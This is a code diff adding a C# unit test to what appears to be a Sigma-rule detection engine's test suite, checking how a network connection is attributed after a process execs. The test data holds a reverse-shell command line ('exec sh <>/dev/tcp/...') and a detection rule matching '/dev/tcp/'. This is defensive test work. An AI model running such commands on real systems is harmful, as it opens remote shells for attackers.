@@ -52,6 +52,21 @@ public sealed class SigmaDetectorTests
         Assert.Equal("A test rule: /usr/bin/nc – pool.example", finding.Explanation);
     }
 
+    [Fact]
+    public void A_connection_is_of_the_program_that_tried_it_whatever_it_became_since()
+    {
+        SigmaScene scene = new(SigmaScene.Rule(
+            "selection:\n    CommandLine|contains: /dev/tcp/", category: "network_connection"));
+
+        scene.Exec(20, "/usr/bin/bash", "bash", "-c", "exec sh <>/dev/tcp/203.0.113.7/80")
+            .Add(new Fact.ConnectAttempted(new Endpoint(IPAddress.Parse("203.0.113.7"), 80), Transport.Tcp), 20)
+            .Exec(20, "/usr/bin/sh", "sh").Connect("203.0.113.8", 80, pid: 20);
+        Assert.Empty(scene.Findings);
+        scene.Connect("203.0.113.7", 80, pid: 20);
+
+        Assert.Equal(["r0"], scene.Found);
+    }
+
     /// <summary>In a run one connection is two facts, the attempt and the flow: a rule counts it once.</summary>
     [Fact]
     public void A_connection_is_one_event()
